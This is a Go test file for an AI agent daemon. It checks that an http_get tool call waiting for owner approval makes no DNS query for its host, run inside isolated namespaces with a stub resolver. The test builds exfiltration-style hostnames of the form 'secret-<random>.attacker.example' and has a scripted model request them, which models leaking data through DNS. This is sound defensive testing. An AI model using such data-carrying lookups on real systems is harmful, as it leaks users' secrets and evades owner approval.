package main

import (
	"crypto/rand"
	"errors"
	"fmt"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	"golang.org/x/sys/unix"

	"github.com/shelldon/shelldon/internal/broker/brokertest"
	"github.com/shelldon/shelldon/internal/contracts"
	"github.com/shelldon/shelldon/internal/netguard/dnstest"
)

// inNamespaceEnv marks the re-executed test binary that runs in network and
// mount namespaces of its own.
const inNamespaceEnv = "SHELLDON_TEST_DNS_NAMESPACE"

// TestParkedHTTPGetLooksNothingUp: parking an http_get sends nothing
// anywhere, not even a DNS query for its host, so a name that carries data
// (<secret>.attacker.example) leaks nothing when the owner denies the call;
// an approved call looks its name up only after the decision.
//
// The real daemon and its worker processes run in a network namespace of
// the test's own, where the only DNS server is the test's stub (dnstest on
// 127.0.0.1:53, named by a resolv.conf bind-mounted in a mount namespace of
// the test's own): whatever resolves a name there, in any process, asks the
// stub, and the stub keeps every name it is asked.
func TestParkedHTTPGetLooksNothingUp(t *testing.T) {
	if os.Getenv(inNamespaceEnv) == "" {
		reexecInNamespaces(t)
		return
	}
	enterOwnResolver(t)
	// Names as an attacker would make them: a label of data, unique to
	// this run, under a domain whose DNS server the attacker watches.
	denied := "secret-" + strings.ToLower(rand.Text()) + ".attacker.example"
	approved := "approved-" + strings.ToLower(rand.Text()) + ".attacker.example"
	// The approved name resolves to loopback, which the dialer refuses: the
	// fetch stops at connect(2) and nothing is sent, here or anywhere.
	stub := dnstest.Listen(t, "127.0.0.1:53", map[string][]netip.Addr{approved: {netip.MustParseAddr("127.0.0.1")}})

	srv := brokertest.NewServer(t, "openai", fetchScript)
	d := startServe(t, home(t, "openai", srv.BaseURL(), ""))
	asked := func(name string) bool {
		for _, q := range stub.Queries() {
			if strings.Contains(q, name) {
				return true
			}
		}
		return false
	}
	// park sends the URL for the model to fetch; the turn parks, and the
	// card shows the URL as it will be requested.
	park := func(url, host string) string {
		t.Helper()
		status, out := d.do(t, "POST", "/api/chat", d.token, map[string]string{"chat": "dns", "text": url})
		if status != 200 || out["stopped"] != "approval" {
			t.Fatalf("chat %s: %d %v", url, status, out)
		}
		card := fmt.Sprint(out["reply"])
		for _, want := range []string{"Tool: http_get", "URL as it will be requested: " + url, "Host, as sent (ASCII): " + host, "Not looked up or contacted yet"} {
			if !strings.Contains(card, want) {
				t.Errorf("the card lacks %q:\n%s", want, card)
			}
		}
		return approvalID(t, out)
	}
	decide := func(id string, approve bool) string {
		t.Helper()
		status, out := d.do(t, "POST", "/api/approvals/"+id, d.token, map[string]bool{"approve": approve})
		if status != 200 {
			t.Fatalf("decide %s (approve=%v): %d %v", id, approve, status, out)
		}
		return fmt.Sprint(out["reply"])
	}

	// Parked, then denied: no query for the name, ever.
	id := park("https://"+denied+"/x", denied)
	if asked(denied) {
		t.Fatalf("parking looked up %s before the owner decided; the stub saw %q", denied, stub.Queries())
	}
	if reply := decide(id, false); !strings.Contains(reply, "denied by owner") {
		t.Errorf("denied reply: %s", reply)
	}
	if asked(denied) {
		t.Fatalf("a denied call looked up %s; the stub saw %q", denied, stub.Queries())
	}

	// Parked, then approved: the query happens, and only after the decision.
	id = park("http://"+approved+"/y", approved)
	if asked(approved) {
		t.Fatalf("parking looked up %s before the owner decided; the stub saw %q", approved, stub.Queries())
	}
	reply := decide(id, true)
	if !asked(approved) {
		t.Fatalf("the approved call did not look up %s; the stub saw %q; reply: %s", approved, stub.Queries(), reply)
	}
	if !strings.Contains(reply, "http_get ok=false") || !strings.Contains(reply, "loopback") {
		t.Errorf("the approved fetch should resolve to 127.0.0.1 and be refused at connect: %s", reply)
	}
	// The first name stayed unasked while everything else ran.
	if asked(denied) {
		t.Fatalf("the denied call's name %s was looked up later; the stub saw %q", denied, stub.Queries())
	}
	t.Logf("the stub saw %q", stub.Queries())
}

// fetchScript is a model that asks http_get for the URL the owner sends,
// then reports the result it gets back.
func fetchScript(r brokertest.Recorded) brokertest.Reply {
	last := r.Request.Messages[len(r.Request.Messages)-1]
	if last.Role == contracts.RoleUser {
		args := fmt.Sprintf(`{"url":%q}`, last.Text)
		return brokertest.Reply{Text: "Fetching.", ToolCalls: []contracts.ToolCall{{ID: "call_get", Name: contracts.ToolHTTPGet, Arguments: args}}}
	}
	var parts []string
	for _, tr := range last.ToolResults {
		parts = append(parts, fmt.Sprintf("%s ok=%v %s", tr.Name, tr.OK, tr.Content))
	}
	return brokertest.Reply{Text: "RESULTS: " + strings.Join(parts, " | ")}
}

// reexecInNamespaces runs the calling test again in a copy of the test
// binary started in new network and mount namespaces (root only), and fails
// if it fails there. Go makes the new mount namespace's mounts private
// before exec, so nothing the child mounts is seen outside it.
func reexecInNamespaces(t *testing.T) {
	t.Helper()
	if os.Geteuid() != 0 {
		t.Skip("needs root, for network and mount namespaces of its own")
	}
	cmd := exec.Command(os.Args[0], "-test.run=^"+t.Name()+"$", "-test.v", "-test.count=1")
	cmd.Env = append(os.Environ(), inNamespaceEnv+"=1")
	cmd.SysProcAttr = &syscall.SysProcAttr{Unshareflags: syscall.CLONE_NEWNET | syscall.CLONE_NEWNS}
	var out strings.Builder
	cmd.Stdout, cmd.Stderr = &out, &out
	if err := cmd.Start(); err != nil {
		if errors.Is(err, syscall.EPERM) || errors.Is(err, syscall.EINVAL) {
			t.Skipf("cannot make network and mount namespaces here: %v", err)
		}
		t.Fatalf("start the test in its own namespaces: %v", err)
	}
	err := cmd.Wait()
	t.Logf("in its own namespaces:\n%s", out.String())
	if err != nil {
		t.Fatalf("the test failed in its own namespaces: %v", err)
	}
	if !strings.Contains(out.String(), "--- PASS: "+t.Name()) {
		t.Fatal("the test did not pass in its own namespaces (skipped or not run)")
	}
}

// enterOwnResolver readies the namespaces the test was started in: the
// loopback interface up (a new network namespace has it down, and nothing
// else), and a resolv.conf and nsswitch.conf of the test's own bind-mounted
// over the system's, naming only 127.0.0.1 and only files and DNS.
func enterOwnResolver(t *testing.T) {
	t.Helper()
	if err := loopbackUp(); err != nil {
		t.Fatalf("bring lo up: %v", err)
	}
	dir := t.TempDir()
	files := map[string]string{
		"/etc/resolv.conf":   "nameserver 127.0.0.1\noptions attempts:1 timeout:2\n",
		"/etc/nsswitch.conf": "hosts: files dns\n",
	}
	for target, content := range files {
		if _, err := os.Stat(target); errors.Is(err, os.ErrNotExist) && target == "/etc/nsswitch.conf" {
			continue // without it the Go resolver asks files, then DNS
		}
		src := filepath.Join(dir, filepath.Base(target))
		if err := os.WriteFile(src, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
		if err := unix.Mount(src, target, "", unix.MS_BIND, ""); err != nil {
			t.Fatalf("bind-mount %s over %s: %v", src, target, err)
		}
	}
}

// loopbackUp sets the IFF_UP flag of lo.
func loopbackUp() error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	ifr, err := unix.NewIfreq("lo")
	if err != nil {
		return err
	}
	if err := unix.IoctlIfreq(fd, unix.SIOCGIFFLAGS, ifr); err != nil {
		return fmt.Errorf("get flags: %w", err)
	}
	ifr.SetUint16(ifr.Uint16() | unix.IFF_UP)
	if err := unix.IoctlIfreq(fd, unix.SIOCSIFFLAGS, ifr); err != nil {
		return fmt.Errorf("set flags: %w", err)
	}
	return nil
}
